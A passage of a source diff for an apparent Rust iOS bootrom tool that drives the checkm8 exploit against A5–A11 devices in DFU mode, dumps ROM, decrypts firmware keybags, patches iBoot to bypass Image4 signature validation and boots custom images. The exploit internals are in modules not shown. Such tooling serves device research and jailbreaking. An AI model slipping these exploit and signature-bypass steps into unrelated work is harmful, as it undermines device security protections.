@@ -1,114 +1,125 @@
-use rusb::ffi::{libusb_control_transfer, libusb_error_name, libusb_strerror};
-use rusb::{self, DeviceDescriptor, UsbContext};
-use rusty_libimobiledevice::idevice;
-use rusty_libimobiledevice::services::lockdownd;
-use std::ffi::{c_long, c_uchar, c_uint, c_ushort, c_void, CStr};
+use rusb::{self, UsbContext};
+use std::sync::OnceLock;
 use std::thread::sleep;
-use std::time::{Duration, Instant};
-use std::{ptr};
-use tokio;
-
-// MARK: constants
-pub const DFU_DNLOAD: u8 = 1;
-pub const DFU_UPLOAD: u8 = 2;
-pub const DFU_GETSTATUS: u8 = 3;
-pub const DFU_CLRSTATUS: u8 = 4;
-pub const DFU_GETSTATE: u8 = 5;
-pub const DFU_ABORT: u8 = 6;
-pub const DFU_FILE_SUFFIX_LENGTH: usize = 16;
-pub const EP0_MAX_PACKET_SIZE: u16 = 0x40;
-pub const DFU_MAX_TRANSFER_SIZE: u16 = 0x800;
-pub const DFU_STATUS_OK: u8 = 0;
-pub const DFU_STATE_MANIFEST_SYNC: u8 = 6;
-pub const DFU_STATE_MANIFEST: u8 = 7;
-pub const DFU_STATE_MANIFEST_WAIT_RESET: u8 = 8;
-
-// USB constants
-pub const USB_TIMEOUT: u32 = 10;
+use std::time::Duration;
+use tracing::{error, info};
+use transport::Transport;
+
+#[cfg(feature = "usbfs")]
+use ra1n_oxide::usbfs;
+use ra1n_oxide::{compression, dfu, img3, img4, plist, pwned_dfu, recovery, serial, soc, timing, transport, usbip};
+use ra1n_oxide::{
+    DFU_ABORT, DFU_CLRSTATUS, DFU_DNLOAD, DFU_FILE_SUFFIX_LENGTH, DFU_GETSTATE, DFU_GETSTATUS,
+    DFU_MAX_TRANSFER_SIZE, DFU_STATE_DNLOAD_IDLE, DFU_STATE_MANIFEST, DFU_STATE_MANIFEST_SYNC,
+    DFU_STATE_MANIFEST_WAIT_RESET, DFU_STATUS_OK, DFU_UPLOAD, EP0_MAX_PACKET_SIZE,
+};
+
+mod boot;
+mod calibrate;
+mod checkm8;
+mod decrypt;
+mod dump;
+mod flow;
+mod hex;
+mod iboot;
+mod image;
+mod ipsw;
+mod journal;
+mod kbag;
+mod lockdown;
+#[cfg(all(feature = "usbmuxd", not(feature = "libimobiledevice")))]
+mod lockdownd;
+mod pcap;
+mod sim;
+mod trace;
+#[cfg(all(feature = "usbmuxd", not(feature = "libimobiledevice")))]
+mod usbmux;
 
 // 0x5ac, 0x1227 -> dfu
 // 0x5ac, 0x1281 -> recovery
 // 0x5ac, 0x4141 -> pongo
 
 // MARK: device detection
-async fn find_apple_device() -> Option<rusb::DeviceHandle<rusb::Context>> {
-    let context = rusb::Context::new().unwrap();
-    let device_list = context.devices().unwrap();
-    for device in device_list.iter() {
-        let device_handle = device.open().unwrap();
-        let device_descriptor = device_handle.device().device_descriptor().unwrap();
-        if device_descriptor.vendor_id() == 0x5ac
-            && device_descriptor.vendor_id() != 0x1227
-            && device_descriptor.vendor_id() != 0x1281
-            && device_descriptor.vendor_id() != 0x4141
-        {
-            sleep(Duration::from_millis(800));
-            return Some(device_handle);
-        }
+// Set by --usbip: devices are looked for in that server's exports instead of
+// on this machine
+static USBIP_SERVER: OnceLock<String> = OnceLock::new();
+
+// Set by --usbfs-timing
+#[cfg(feature = "usbfs")]
+static USBFS_TIMING: OnceLock<usbfs::Timing> = OnceLock::new();
+
+fn mode_name(product_id: u16) -> &'static str {
+    match product_id {
+        0x1227 => "DFU",
+        0x1281 => "recovery",
+        0x4141 => "pongoOS",
+        _ => "an unknown mode",
     }
-    return None;
 }
 
-async fn find_device(mode: &str, device_descriptor: &DeviceDescriptor) -> bool {
-    if device_descriptor.vendor_id() != 0x5ac {
-        // just bail if not apple
-        return false;
-    }
-    // println!("product ID: 0x{:04x}", device_descriptor.product_id());
-    match mode {
-        "dfu" => {
-            if device_descriptor.product_id() == 0x1227 {
-                println!("Device in DFU found!");
-                return true;
-            }
-        }
-        "recovery" => {
-            if device_descriptor.product_id() == 0x1281 {
-                println!("Device in recovery found!");
-                return true;
-            }
-        }
-        "pongo" => {
-            if device_descriptor.product_id() == 0x4141 {
-                println!("Device in pongoOS found!");
-                return true;
-            }
-        }
-        _ => {
-            println!("Invalid mode");
-            return false;
-        }
-    };
-    return false;
+fn find_device_by_product_id(product_id: u16) -> Option<rusb::Device<rusb::Context>> {
+    let context = rusb::Context::new().ok()?;
+    let device_list = context.devices().ok()?;
+    device_list.iter().find(|device| {
+        device.device_descriptor().is_ok_and(|desc| {
+            desc.vendor_id() == 0x5ac && desc.product_id() == product_id
+        })
+    })
+}
+
+// Linux only, elsewhere there's libusb to fall back on
+#[cfg(feature = "usbfs")]
+fn find_usbfs_device(product_id: u16) -> Option<usbfs::DeviceNode> {
+    usbfs::devices()
+        .into_iter()
+        .find(|node| node.vendor_id == 0x5ac && node.product_id == product_id)
 }
 
-async fn find_device_in_dfu() -> Option<rusb::Device<rusb::Context>> {
-    let context = rusb::Context::new().unwrap();
-    let device_list = context.devices().unwrap();
-    for device in device_list.iter() {
-        let device_desc = device.device_descriptor().unwrap();
-        if find_device("dfu", &device_desc).await == true {
-            return Some(device.clone());
+fn find_remote_device(server: &str, product_id: u16) -> Result<Option<usbip::ExportedDevice>, String> {
+    let devices = usbip::list_devices(server)?;
+    Ok(devices
+        .into_iter()
+        .find(|device| device.vendor_id == 0x5ac && device.product_id == product_id))
+}
+
+// Without opening it, for polling
+fn device_present(product_id: u16) -> bool {
+    match USBIP_SERVER.get() {
+        Some(server) => find_remote_device(server, product_id).is_ok_and(|device| device.is_some()),
+        None => {
+            #[cfg(feature = "usbfs")]
+            if find_usbfs_device(product_id).is_some() {
+                return true;
+            }
+            find_device_by_product_id(product_id).is_some()
         }
     }
-    return None;
 }
 
-async fn find_device_in_recovery() -> Option<rusb::Device<rusb::Context>> {
-    let context = rusb::Context::new().unwrap();
-    let device_list = context.devices().unwrap();
-    for device in device_list.iter() {
-        let device_desc = device.device_descriptor().unwrap();
-        if find_device("recovery", &device_desc).await == true {
-            return Some(device.clone());
+fn open_by_product_id(product_id: u16) -> Result<transport::Backend, String> {
+    let not_found = format!("No device in {} found", mode_name(product_id));
+    match USBIP_SERVER.get() {
+        Some(server) => {
+            let device = find_remote_device(server, product_id)?.ok_or(not_found)?;
+            let transport = usbip::UsbipTransport::import(server, &device.busid)?;
+            Ok(transport::Backend::Usbip(transport))
+        }
+        None => {
+            #[cfg(feature = "usbfs")]
+            if let Some(node) = find_usbfs_device(product_id) {
+                let timing = USBFS_TIMING.get().copied().unwrap_or_default();
+                return Ok(transport::Backend::Usbfs(node.open(timing)?));
+            }
+            let device = find_device_by_product_id(product_id).ok_or(not_found)?;
+            let handle = device.open().map_err(|e| e.to_string())?;
+            Ok(transport::Backend::Local(transport::RusbTransport::new(handle)))
         }
     }
-    return None;
 }
 
 fn timer(mut seconds: u64, what_to_say: &str) {
     while seconds > 0 {
-        println!("\r{} {}", seconds, what_to_say);
+        info!("{} {}", seconds, what_to_say);
         sleep(Duration::from_secs(1));
         seconds -= 1;
     }
@@ -132,518 +143,1085 @@ CPID:8010 <- Get by searching for CPID: and then getting the next 4 characters
  ECID:000269E20846003A IBFL:3C SRTG:[iBoot-2696.0.0.1.33]
  */
 
-fn get_cpid_from_serial(serial: &str) -> &str {
-    let cpid_index = serial.find("CPID:").unwrap();
-    // println!("CPID index: {}", cpid_index);
-    let cpid = &serial[cpid_index + 5..cpid_index + 9]; // chatgpt did this for me please idk
-                                                        // println!("CPID: {}", cpid);
-    return &cpid;
-}
-
-fn get_bdid_from_serial(serial: &str) -> &str {
-    let bdid_index = serial.find("BDID:").unwrap();
-    // println!("BDID index: {}", bdid_index);
-    let bdid = &serial[bdid_index + 5..bdid_index + 7]; // chatgpt did this for me please idk
-                                                        // println!("BDID: {}", bdid);
-    return &bdid;
-}
-
-fn send_command_to_recovery(usb_handle: &rusb::DeviceHandle<rusb::Context>, command: &str) {
-    // if command.len() <= 0x100 && command.len() > 1 {
-        unsafe {
-            let ret = libusb_control_transfer(
-                usb_handle.as_raw(),
-                0x40,
-                0,
-                0,
-                0,
-                command.as_ptr() as *mut u8,
-                (command.len() + 1).try_into().unwrap(),
-                USB_TIMEOUT,
-            ); // how do I know if this even worked?
-            if ret < 0 {
-                let error_name = CStr::from_ptr(libusb_error_name(ret));
-                let error_message = CStr::from_ptr(libusb_error_name(ret));
-                println!(
-                    "Error sending command to recovery: {:?} ({:?})",
-                    error_name, error_message
-                );
-            } else {
-                // println!("Command sent to recovery successfully: {}", command);
-            }
-        }
-    // } else {
-        // println!("Invalid command length");
-    // }
-}
-
 // MARK: dfu helper
-fn dfu_helper(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    let device_descriptor = usb_handle.device().device_descriptor().unwrap();
-    let serial_number = usb_handle
-        .read_serial_number_string_ascii(&device_descriptor)
-        .unwrap();
-    // println!("Serial number: {}", serial_number);
-    let cpid = get_cpid_from_serial(&serial_number).parse::<u16>().unwrap();
-    let bdid = get_bdid_from_serial(&serial_number).parse::<u16>().unwrap();
-    let is_home_button = (cpid == 0x8015
-        || (cpid == 0x8010 && (bdid == 0x08 || bdid == 0x0a || bdid == 0x0c || bdid == 0x0e)));
-
-    println!("Press any character when you are ready to enter DFU");
-    std::io::stdin().read_line(&mut String::new()).unwrap();
+// Counts the user through the button combo while telling iBoot to reboot,
+// timed so the device lands in DFU. `timer` is what shows the countdown.
+fn dfu_helper<T: Transport>(
+    recovery: &mut recovery::RecoveryClient<T>,
+    timer: impl Fn(u64, &str),
+) -> Result<(), String> {
+    let serial_number = recovery
+        .transport()
+        .serial_number()
+        .ok_or("couldn't read the recovery serial")?;
+    let serial =
+        serial::DeviceSerial::parse(&serial_number).ok_or(format!("unparseable serial: {}", serial_number))?;
+    let is_home_button = !soc::no_home_button(serial.cpid, serial.bdid);
 
     timer(3, "Get ready...");
-    if (is_home_button) {
+    if is_home_button {
         timer(4, "Hold home + power button");
     } else {
         timer(4, "Hold volume down + side button");
     }
 
-    send_command_to_recovery(usb_handle, "setenv auto-boot true");
+    let error = |command: &str, e: transport::TransferError| format!("{}: {}", command, e);
+    recovery
+        .send_command("setenv auto-boot true")
+        .map_err(|e| error("setenv", e))?;
     sleep(Duration::from_millis(100));
-    send_command_to_recovery(usb_handle, "saveenv");
+    recovery.send_command("saveenv").map_err(|e| error("saveenv", e))?;
     sleep(Duration::from_millis(100));
-    send_command_to_recovery(usb_handle, "reboot");
+    recovery.send_final_command("reboot").map_err(|e| error("reboot", e))?;
 
-    if (is_home_button) {
+    if is_home_button {
         timer(10, "Hold down home button only");
     } else {
         timer(10, "Hold down volume button only")
     }
+    Ok(())
 }
 
-async fn kick_into_recovery() -> bool {
-    match find_device_in_dfu().await {
-        None => {
-            println!("No device in DFU, kicking into recovery");
+// Checks a normal mode device over lockdownd, then asks it to reboot into
+// recovery
+fn kick_into_recovery() -> Result<lockdown::DeviceInfo, String> {
+    let udids = lockdown::devices()?;
+    let udid = udids.first().ok_or("No device in normal mode found")?;
+    let info = lockdown::DeviceInfo::query(udid)?;
+    info!(
+        "{} ({}) on iOS {} ({}), ECID {:016X}",
+        info.product_type, info.hardware_model, info.product_version, info.build_version, info.ecid
+    );
+    let soc = info.soc().ok_or(format!(
+        "CPID 0x{:04x} isn't supported, checkm8 needs an A5-A11 device",
+        info.cpid
+    ))?;
+    if info.has_home_button() {
+        info!("{}: you'll hold home + power to enter DFU", soc.name);
+    } else {
+        info!("{}: you'll hold volume down + side to enter DFU", soc.name);
+    }
+    lockdown::enter_recovery(udid).map_err(|e| format!("entering recovery: {}", e))?;
+    Ok(info)
+}
+
+// MARK: commands
+// Set by --record/--pcap: every handle opened from then on logs its traffic there
+static RECORDING: OnceLock<trace::Recording> = OnceLock::new();
+
+type UsbTransport = trace::Recorder<transport::Backend>;
+
+// `label` names the session in the trace, it's what a replay asks for
+fn usb_transport(backend: transport::Backend, label: &str) -> UsbTransport {
+    let (bus, device) = backend.address();
+    trace::Recorder::new(backend, RECORDING.get(), label).with_address(bus, device)
+}
+
+async fn open_pwned_dfu() -> Result<pwned_dfu::PwnedDfu<UsbTransport>, String> {
+    pwned_dfu::PwnedDfu::open(usb_transport(open_by_product_id(0x1227)?, "pwned-dfu"))
+}
+
+fn open_recovery(label: &str) -> Result<recovery::RecoveryClient<UsbTransport>, String> {
+    let mut transport = usb_transport(open_by_product_id(0x1281)?, label);
+    transport
+        .get_mut()
+        .claim_interface(recovery::RECOVERY_INTERFACE, recovery::RECOVERY_ALT_SETTING)
+        .map_err(|e| e.to_string())?;
+    Ok(recovery::RecoveryClient::new(transport))
+}
+
+// Set by --profile, --profiles and --sysfs-root
+static PROFILE_NAME: OnceLock<String> = OnceLock::new();
+static PROFILES: OnceLock<timing::Profiles> = OnceLock::new();
+static SYSFS_ROOT: OnceLock<std::path::PathBuf> = OnceLock::new();
+
+fn profiles() -> &'static timing::Profiles {
+    PROFILES.get_or_init(timing::Profiles::builtin)
+}
+
+fn sysfs_root() -> &'static std::path::Path {
+    SYSFS_ROOT.get_or_init(|| std::path::PathBuf::from("/sys"))
+}
+
+// --profile if given, otherwise the one for the controller on the device's
+// bus. Devices over USB/IP, and anything without a bus, get generic.
+fn timing_profile(address: Option<(u16, u8)>) -> Result<timing::TimingProfile, String> {
+    if let Some(name) = PROFILE_NAME.get() {
+        return profiles()
+            .get(name)
+            .cloned()
+            .ok_or(format!("unknown timing profile {}", name));
+    }
+    let controller = match address {
+        Some((bus, _)) if USBIP_SERVER.get().is_none() => timing::detect(sysfs_root(), bus),
+        _ => None,
+    };
+    let profile = profiles().for_controller(controller.as_ref()).clone();
+    if let Some(controller) = &controller {
+        info!("Host controller: {}, timing profile {}", controller, profile.name);
+    }
+    Ok(profile)
+}
+
+// Picks the SoC from the DFU serial and runs checkm8 with our payload
+fn exploit<T: Transport>(transport: &mut T, profile: &timing::TimingProfile) -> Result<(), String> {
+    let serial = transport.serial_number().ok_or("couldn't read the DFU serial")?;
+    let serial = serial::DeviceSerial::parse(&serial).ok_or(format!("unparseable serial: {}", serial))?;
+    let soc = soc::soc_for_cpid(serial.cpid).ok_or(format!("unknown CPID 0x{:04x}", serial.cpid))?;
+    // before anything is sent, so a SoC we can't finish on is left as it was
+    let payload = payload_for(soc)?;
+    checkm8::checkm8(transport, soc, profile, payload)
+}
+
+// The payload built for the SoC, only t8010 has one so far
+fn payload_for(soc: &soc::Soc) -> Result<&'static [u8], String> {
+    match soc.cpid {
+        0x8010 => Ok(YOLO_T8010_BIN),
+        _ => Err(format!("no payload for {} yet", soc.name)),
+    }
+}
+
+async fn dump_command(args: &[String]) -> Result<(), String> {
+    let region_name = args.first().ok_or("usage: dump <rom|sram> [output]")?;
+    let region = dump::Region::from_name(region_name)
+        .ok_or(format!("unknown region {}, expected rom or sram", region_name))?;
+    let mut pwned = open_pwned_dfu().await?;
+    let output = match args.get(1) {
+        Some(output) => output.clone(),
+        None => format!(
+            "{}-{}-{:016X}.bin",
+            region_name,
+            pwned.soc().name,
+            pwned.serial().ecid
+        ),
+    };
+    dump::dump_to_file(&mut pwned, region, std::path::Path::new(&output))
+}
+
+// decrypt-kbag <kbag>... | decrypt-kbag -f <file|-> | decrypt-kbag -i <image>
+// Only on SoCs whose aes_crypto_cmd we know, see kbag::supported_socs
+async fn decrypt_kbag_command(args: &[String]) -> Result<(), String> {
+    let usage = format!(
+        "usage: decrypt-kbag <kbag>... | decrypt-kbag -f <file|-> | decrypt-kbag -i <image>\n(needs a pwned {} in DFU mode)",
+        kbag::supported_socs().join(" or ")
+    );
+    let usage = usage.as_str();
+    let kbags: Vec<String> = match args.first().map(|arg| arg.as_str()) {
+        Some("-f") => {
+            let path = args.get(1).ok_or(usage)?;
+            let text = if path == "-" {
+                std::io::read_to_string(std::io::stdin()).map_err(|e| e.to_string())?
+            } else {
+                std::fs::read_to_string(path).map_err(|e| format!("{}: {}", path, e))?
+            };
+            text.lines()
+                .map(|line| line.trim())
+                .filter(|line| !line.is_empty() && !line.starts_with('#'))
+                .map(|line| line.to_string())
+                .collect()
         }
-        _ => {
-            println!("Device in DFU, exiting");
-            return false;
+        // the image's production KBAG, IMG3 or Image4
+        Some("-i") => {
+            let path = args.get(1).ok_or(usage)?;
+            let data = std::fs::read(path).map_err(|e| format!("{}: {}", path, e))?;
+            let kbags = image::Container::parse(&data)?.production_kbags()?;
+            if kbags.is_empty() {
+                return Err(format!("{} has no production KBAG, it isn't encrypted", path));
+            }
+            kbags
         }
+        _ => args.to_vec(),
+    };
+    if kbags.is_empty() {
+        return Err(usage.to_string());
     }
-    let device_list = idevice::get_devices().unwrap();
-    
-    // while device_list.len() <= 0 {
-        let ret = lockdownd::LockdowndClient::new(&device_list[0], "dfu");
-        if let Ok(client) = ret {
-            let _ = lockdownd::LockdowndClient::enter_recovery(&client);
-            // lockdownd::LockdowndClient::goodbye(client);
-        }
-    // }
-    if find_device_in_recovery().await.is_some() {
-        return true;
+    let kbags = kbag::parse_kbags(&kbags)?;
+    let mut pwned = open_pwned_dfu().await?;
+    for iv_key in kbag::decrypt_kbags(&mut pwned, &kbags)? {
+        println!("{}", iv_key);
     }
-    println!("Failed to kick into recovery");
-    return false;
+    Ok(())
 }
 
-// MARK: usb stuff
-
-fn send_usb_control_request_no_data(
-    handle: &rusb::DeviceHandle<rusb::Context>,
-    bm_request_type: u8,
-    b_request: u8,
-    w_value: u16,
-    w_index: u16,
-    w_length: usize,
-) -> bool {
-    // let mut transfer_ret: rusb::ControlTransferReturnStatus = rusb::ControlTransferReturnStatus::Ok;
-
-    if w_length == 0 {
-        send_usb_control_request(
-            handle,
-            bm_request_type,
-            b_request,
-            w_value,
-            w_index,
-            ptr::null_mut(),
-            0,
-        )
-    } else {
-        let mut data: *mut c_void =
-            unsafe { std::alloc::alloc(std::alloc::Layout::from_size_align(w_length, 1).unwrap()) }
-                as *mut c_void;
-        if !data.is_null() {
-            unsafe {
-                std::ptr::write_bytes(data as *mut c_uchar, 0, w_length);
+// decrypt <input> <output> (--iv-key <hex> | --keys <file>) [--container]
+fn decrypt_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: decrypt <input> <output> (--iv-key <hex> | --keys <file>) [--container]";
+    let (input, output) = match args {
+        [input, output, ..] => (input, output),
+        _ => return Err(usage.to_string()),
+    };
+    let data = std::fs::read(input).map_err(|e| format!("{}: {}", input, e))?;
+    let mut container = image::Container::parse(&data)?;
+    let image_type = container.image_type().unwrap_or_default();
+
+    let mut iv_key = None;
+    let mut keep_container = false;
+    let mut options = args[2..].iter();
+    while let Some(option) = options.next() {
+        match option.as_str() {
+            "--iv-key" => {
+                let value = options.next().ok_or(usage)?;
+                iv_key = Some(decrypt::IvKey::parse(value)?);
             }
-            let result = send_usb_control_request(
-                handle,
-                bm_request_type,
-                b_request,
-                w_value,
-                w_index,
-                data,
-                w_length as c_ushort,
-            );
-            unsafe {
-                std::alloc::dealloc(
-                    data as *mut u8,
-                    std::alloc::Layout::from_size_align(w_length, 1).unwrap(),
-                )
-            };
-            result
-        } else {
-            false
+            "--keys" => {
+                let path = options.next().ok_or(usage)?;
+                let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {}", path, e))?;
+                iv_key = Some(decrypt::IvKey::from_key_file(&text, &image_type)?);
+            }
+            "--container" => keep_container = true,
+            _ => return Err(usage.to_string()),
         }
     }
+    let iv_key = iv_key.ok_or(usage)?;
+
+    let (decrypted, kind) = decrypt::decrypt_payload(&container, &iv_key)?;
+    println!("Decrypted {} {} payload: {:?}", container.kind(), image_type, kind);
+    let out = if keep_container {
+        container.set_payload(decrypted);
+        container.to_bytes()
+    } else {
+        decrypted
+    };
+    std::fs::write(output, out).map_err(|e| format!("{}: {}", output, e))?;
+    println!("Wrote {}", output);
+    Ok(())
 }
 
-fn send_usb_control_request(
-    handle: &rusb::DeviceHandle<rusb::Context>,
-    bm_request_type: u8,
-    b_request: u8,
-    w_value: u16,
-    w_index: u16,
-    data: *mut c_void,
-    w_length: c_ushort,
-) -> bool {
-    unsafe {
-        let ret = libusb_control_transfer(
-            handle.as_raw(),
-            bm_request_type,
-            b_request,
-            w_value,
-            w_index,
-            data as *mut c_uchar,
-            w_length,
-            USB_TIMEOUT,
-        );
-        if ret < 0 {
-            let error_name = CStr::from_ptr(libusb_error_name(ret));
-            let error_message = CStr::from_ptr(libusb_error_name(ret));
-            println!(
-                "{:?} ({:?})",
-                error_name, error_message
-            );
-        }
-        return ret > 0;
+// extract <input> <output>: write the decompressed payload of an unencrypted image
+fn extract_command(args: &[String]) -> Result<(), String> {
+    let [input, output] = args else {
+        return Err("usage: extract <input> <output>".to_string());
     };
+    let data = std::fs::read(input).map_err(|e| format!("{}: {}", input, e))?;
+    let container = image::Container::parse(&data)?;
+    let payload = container.decompressed_payload()?;
+    std::fs::write(output, &payload).map_err(|e| format!("{}: {}", output, e))?;
+    println!("Wrote {} bytes to {}", payload.len(), output);
+    Ok(())
 }
 
-async fn send_usb_control_request_async(
-    handle: &rusb::DeviceHandle<rusb::Context>,
-    bm_request_type: u8,
-    b_request: u8,
-    w_value: u16,
-    w_index: u16,
-    data: *mut c_void,
-    w_length: c_ushort,
-    usb_abort_timeout: u16,
-) -> bool {
-    let start = Instant::now();
-
-    let result = async {
-        unsafe {
-            libusb_control_transfer(
-                handle.as_raw(),
-                bm_request_type,
-                b_request,
-                w_value,
-                w_index,
-                data as *mut std::os::raw::c_uchar,
-                w_length,
-                usb_abort_timeout.into(),
-            )
+// repack <original> <payload> <output>: put a patched payload back into the
+// original container, compressed the same way
+fn repack_command(args: &[String]) -> Result<(), String> {
+    let [original, payload, output] = args else {
+        return Err("usage: repack <original> <payload> <output>".to_string());
+    };
+    let data = std::fs::read(original).map_err(|e| format!("{}: {}", original, e))?;
+    let payload = std::fs::read(payload).map_err(|e| format!("{}: {}", payload, e))?;
+    let mut container = image::Container::parse(&data)?;
+    container.set_decompressed_payload(&payload);
+    std::fs::write(output, container.to_bytes()).map_err(|e| format!("{}: {}", output, e))?;
+    println!("Wrote {}", output);
+    Ok(())
+}
+
+// patch-iboot <input> <output> [--boot-args <args>] [--debug]
+// Input is a decrypted payload, or a container holding one; the output keeps
+// the same form.
+fn patch_iboot_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: patch-iboot <input> <output> [--boot-args <args>] [--debug]";
+    let (input, output) = match args {
+        [input, output, ..] => (input, output),
+        _ => return Err(usage.to_string()),
+    };
+    let mut boot_args = None;
+    let mut debug = false;
+    let mut options = args[2..].iter();
+    while let Some(option) = options.next() {
+        match option.as_str() {
+            "--boot-args" => boot_args = Some(options.next().ok_or(usage)?),
+            "--debug" => debug = true,
+            _ => return Err(usage.to_string()),
         }
     }
-    .await;
 
-    let elapsed = start.elapsed();
-    if elapsed >= Duration::from_millis(usb_abort_timeout.into()) {
-        eprintln!("USB control transfer timed out");
-        return false;
+    let data = std::fs::read(input).map_err(|e| format!("{}: {}", input, e))?;
+    let mut container = image::Container::parse(&data).ok();
+    let payload = match &container {
+        Some(container) => container.decompressed_payload()?,
+        None => data,
+    };
+    let mut iboot = iboot::IBoot::new(payload)?;
+    println!("{} at 0x{:x}", iboot.banner(), iboot.base());
+    iboot.patch_image4_validation()?;
+    if let Some(boot_args) = boot_args {
+        iboot.patch_boot_args(boot_args)?;
+    }
+    if debug {
+        iboot.patch_debug_enabled()?;
+    }
+    for patch in iboot.patches() {
+        println!("  0x{:x}: {}", patch.address, patch.description);
     }
 
-    result >= 0
+    let patched = iboot.into_bytes();
+    let out = match &mut container {
+        Some(container) => {
+            container.set_decompressed_payload(&patched);
+            container.to_bytes()
+        }
+        None => patched,
+    };
+    std::fs::write(output, out).map_err(|e| format!("{}: {}", output, e))?;
+    println!("Wrote {}", output);
+    Ok(())
 }
 
-async fn send_usb_control_request_async_no_data(
-    handle: &rusb::DeviceHandle<rusb::Context>,
-    bm_request_type: u8,
-    b_request: u8,
-    w_value: u16,
-    w_index: u16,
-    w_length: usize,
-    usb_abort_timeout: u16,
-) -> bool {
-    let start = Instant::now();
-
-    if w_length == 0 {
-        async {
-            unsafe {
-                let ret = libusb_control_transfer(
-                    handle.as_raw(),
-                    bm_request_type,
-                    b_request,
-                    w_value,
-                    w_index,
-                    std::ptr::null_mut(),
-                    0,
-                    usb_abort_timeout.into(),
-                );
-                if ret < 0 {
-                    let error_name = CStr::from_ptr(libusb_error_name(ret));
-                    let error_message = CStr::from_ptr(libusb_error_name(ret));
-                    println!(
-                        "{:?} ({:?})",
-                        error_name, error_message
-                    );
-                }
+// boot --ibss <f> --ibec <f> --devicetree <f> --kernelcache <f>
+//      [--ramdisk <f>] [--trustcache <f>] [--im4m <f>] [--timeout <s>]
+// --timeout replaces how long each step waits for the device to come back,
+// for hosts slow to see it re-enumerate.
+async fn boot_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: boot --ibss <file> --ibec <file> --devicetree <file> --kernelcache <file> [--ramdisk <file>] [--trustcache <file>] [--im4m <file>] [--timeout <seconds>]";
+    let read = |path: &String| std::fs::read(path).map_err(|e| format!("{}: {}", path, e));
+    let mut images = boot::BootImages::default();
+    let mut im4m = None;
+    let mut timeout = None;
+    let mut options = args.iter();
+    while let Some(option) = options.next() {
+        let value = options.next().ok_or(usage)?;
+        match option.as_str() {
+            "--ibss" => images.ibss = read(value)?,
+            "--ibec" => images.ibec = read(value)?,
+            "--devicetree" => images.devicetree = read(value)?,
+            "--kernelcache" => images.kernelcache = read(value)?,
+            "--ramdisk" => images.ramdisk = Some(read(value)?),
+            "--trustcache" => images.trustcache = Some(read(value)?),
+            "--im4m" => im4m = Some(boot::load_im4m(&read(value)?)?),
+            "--timeout" => {
+                let seconds = value
+                    .parse::<u64>()
+                    .ok()
+                    .filter(|&seconds| seconds > 0)
+                    .ok_or(format!("invalid timeout {}", value))?;
+                timeout = Some(std::time::Duration::from_secs(seconds));
             }
+            _ => return Err(usage.to_string()),
         }
-        .await;
+    }
+    if images.ibss.is_empty() || images.ibec.is_empty() || images.devicetree.is_empty() || images.kernelcache.is_empty() {
+        return Err(usage.to_string());
+    }
 
-        let elapsed = start.elapsed();
-        if elapsed >= Duration::from_millis(usb_abort_timeout.into()) {
-            eprintln!("USB control transfer timed out");
-            return false;
-        } else {
-            return true;
-        }
-    } else {
-        let mut data = vec![0u8; w_length];
-        let result = async {
-            unsafe {
-                libusb_control_transfer(
-                    handle.as_raw(),
-                    bm_request_type,
-                    b_request,
-                    w_value,
-                    w_index,
-                    data.as_mut_ptr() as *mut std::os::raw::c_uchar,
-                    w_length as c_ushort,
-                    usb_abort_timeout.into(),
-                )
+    let host = UsbHost {
+        boot: Some(BootSet {
+            images,
+            im4m,
+            stitched: None,
+        }),
+        normal: None,
+    };
+    let mut flow = flow::Flow::new(host, |event| info!("{}", event)).with_journal(journal::default_dir());
+    if let Some(timeout) = timeout {
+        flow = flow.with_timeout(timeout);
+    }
+    flow.run(flow::Mode::Booted).await?;
+    println!("Booted");
+    Ok(())
+}
+
+// ipsw <file> [--board <config>] [--cpid <hex> --bdid <hex>] [--product <type>]
+//      [--update] [--extract <dir>]
+// Without --board/--cpid the identity is read from the device in DFU.
+async fn ipsw_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: ipsw <file> [--board <config>] [--cpid <hex> --bdid <hex>] [--product <type>] [--update] [--extract <dir>]";
+    let path = args.first().ok_or(usage)?;
+    let mut device = ipsw::DeviceIdentity::default();
+    let mut behavior = ipsw::RestoreBehavior::Erase;
+    let mut extract_dir = None;
+    let mut options = args[1..].iter();
+    while let Some(option) = options.next() {
+        match option.as_str() {
+            "--board" => device.board_config = Some(options.next().ok_or(usage)?.clone()),
+            "--product" => device.product_type = Some(options.next().ok_or(usage)?.clone()),
+            "--cpid" => {
+                let value = options.next().ok_or(usage)?;
+                device.chip_id = Some(
+                    u16::from_str_radix(value.trim_start_matches("0x"), 16)
+                        .map_err(|_| format!("invalid CPID {}", value))?,
+                );
             }
+            "--bdid" => {
+                let value = options.next().ok_or(usage)?;
+                device.board_id = Some(
+                    u8::from_str_radix(value.trim_start_matches("0x"), 16)
+                        .map_err(|_| format!("invalid BDID {}", value))?,
+                );
+            }
+            "--update" => behavior = ipsw::RestoreBehavior::Update,
+            "--extract" => extract_dir = Some(options.next().ok_or(usage)?.clone()),
+            _ => return Err(usage.to_string()),
         }
-        .await;
+    }
+    if device.board_config.is_none() && device.chip_id.is_none() {
+        let mut transport = usb_transport(open_by_product_id(0x1227)?, "identify");
+        let serial = transport.serial_number().ok_or("couldn't read the device serial number")?;
+        let serial = serial::DeviceSerial::parse(&serial).ok_or(format!("unparseable serial: {}", serial))?;
+        device = ipsw::DeviceIdentity {
+            product_type: device.product_type,
+            ..ipsw::DeviceIdentity::from_serial(&serial)
+        };
+    }
 
-        let elapsed = start.elapsed();
-        if elapsed >= Duration::from_millis(usb_abort_timeout.into()) {
-            eprintln!("USB control transfer timed out");
-            return false;
+    let mut ipsw = ipsw::Ipsw::open(std::path::Path::new(path))?;
+    let identity = ipsw.select_identity(&device, behavior)?;
+    println!(
+        "iOS {} ({}) for {}, {}",
+        ipsw.product_version().unwrap_or("?"),
+        ipsw.build_version().unwrap_or("?"),
+        identity.board_config().unwrap_or("?"),
+        identity.variant().unwrap_or("?")
+    );
+    for name in ipsw::BOOT_COMPONENTS {
+        let Some(component_path) = identity.component_path(name) else {
+            println!("  {:<20} (not in manifest)", name);
+            continue;
+        };
+        println!("  {:<20} {}", name, component_path);
+        if let Some(dir) = &extract_dir {
+            let data = ipsw.read_component(&identity, name)?;
+            let file_name = component_path.rsplit('/').next().unwrap_or(component_path);
+            let output = std::path::Path::new(dir).join(file_name);
